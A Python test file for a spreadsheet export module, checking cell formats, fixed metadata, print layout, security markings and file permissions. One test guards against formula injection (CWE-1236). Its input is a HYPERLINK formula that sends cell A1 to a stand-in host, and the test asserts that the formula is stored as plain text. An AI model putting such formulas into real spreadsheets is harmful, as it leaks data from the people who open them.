"""Workbooks: dates as dates, money as money, text as text, set up to print; no clock in the
bytes."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from transition_planner.exports.workbook import Cell, Column, Sheet, workbook_bytes

COLUMNS = [
    Column("When", "date"),
    Column("Amount", "money"),
    Column("Pay", "pence"),
    Column("Name"),
]


def _book(rows: list[list[object]], marking: str | None = None) -> bytes:
    return workbook_bytes([Sheet("costs", COLUMNS, rows, marking)], date(2016, 3, 10))


def test_workbook_types_and_fixed_metadata() -> None:
    data = _book([[date(2016, 5, 31), 99000, Decimal("512.50"), "Ann"]])
    core = zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml").decode()
    # openpyxl stamps 'modified' with the time of saving; it must not reach the file.
    assert "<dcterms:modified" in core
    assert core.count("2016-03-10T00:00:00Z") == 2
    assert {i.date_time for i in zipfile.ZipFile(io.BytesIO(data)).infolist()} == {
        (1980, 1, 1, 0, 0, 0)
    }
    sheet = load_workbook(io.BytesIO(data))["costs"]
    assert sheet["A2"].value.date() == date(2016, 5, 31)
    assert sheet["A2"].number_format == "d mmm yyyy"
    assert sheet["B2"].number_format == '"£"#,##0'
    assert (sheet["C2"].value, sheet["C2"].number_format) == (512.5, '"£"#,##0.00')


def test_text_that_looks_like_a_formula_stays_text() -> None:
    """CWE-1236: a name typed as a formula is stored as a string cell, never a formula."""
    evil = '=HYPERLINK("http://example.com/?x="&A1,"Click")'
    data = _book(
        [[None, None, None, evil], [None, None, None, "+1"], [None, None, None, "@SUM(1)"]]
    )
    sheet = load_workbook(io.BytesIO(data))["costs"]
    assert (sheet["D2"].value, sheet["D2"].data_type) == (evil, "s")
    assert (sheet["D3"].value, sheet["D3"].data_type) == ("+1", "s")
    assert (sheet["D4"].value, sheet["D4"].data_type) == ("@SUM(1)", "s")
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


def test_header_row_is_bold_frozen_filtered_and_printed_on_every_page() -> None:
    data = _book([[date(2016, 5, 31), 1, Decimal(1), "Ann"]], marking="OFFICIAL-SENSITIVE")
    sheet = load_workbook(io.BytesIO(data))["costs"]
    assert [c.value for c in sheet[1]] == ["When", "Amount", "Pay", "Name"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D2"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.oddHeader.center.text == "OFFICIAL-SENSITIVE"
    assert sheet.oddFooter.center.text == "OFFICIAL-SENSITIVE"
    assert sheet.column_dimensions["A"].width == 13  # "31 May 2016" + 2
    assert sheet.column_dimensions["D"].width == 6


def test_a_cell_of_its_own_kind_in_a_mixed_column() -> None:
    data = workbook_bytes(
        [Sheet("summary", [Column("Item"), Column("Value")], [["Total", Cell(1234, "money")]])],
        date(2016, 3, 10),
    )
    sheet = load_workbook(io.BytesIO(data))["summary"]
    assert (sheet["B2"].value, sheet["B2"].number_format) == (1234, '"£"#,##0')


def test_outputs_get_the_usual_permissions(tmp_path: Path) -> None:
    import os

    from transition_planner.exports.atomic import write_files

    mask = os.umask(0o022)
    try:
        (path,) = write_files(tmp_path / "out", {"a.txt": b"x"})
    finally:
        os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o644
